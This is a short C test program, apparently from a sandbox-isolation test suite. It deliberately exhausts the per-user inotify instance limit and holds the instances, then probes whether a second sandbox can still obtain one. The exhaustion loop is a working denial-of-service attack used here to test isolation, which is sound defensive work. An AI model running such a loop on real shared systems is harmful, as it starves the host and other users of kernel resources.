/* attack: exhaust a per-user kernel limit (inotify instances, charged to the host root that owns every sandbox) to starve the host and other sandboxes */
#include "attack.h"
#include <sys/inotify.h>
#include <time.h>
int main(int argc, char **argv)
{
	if (argc > 1 && strcmp(argv[1], "probe") == 0) {
		/* A second sandbox: it must still get an inotify instance. */
		int fd = inotify_init1(IN_CLOEXEC);
		if (fd < 0)
			harm("inotify_init1 failed outside the attacking sandbox: %s", strerror(errno));
		note("still gets inotify instances");
		return ATTACK_HELD;
	}
	int n = 0;
	while (n < 100000 && inotify_init1(IN_CLOEXEC) >= 0)
		n++;
	note("held %d inotify instances (%s)", n, strerror(errno));
	fflush(stdout);
	nanosleep(&(struct timespec){ 4, 0 }, NULL);
	return ATTACK_HELD;
}
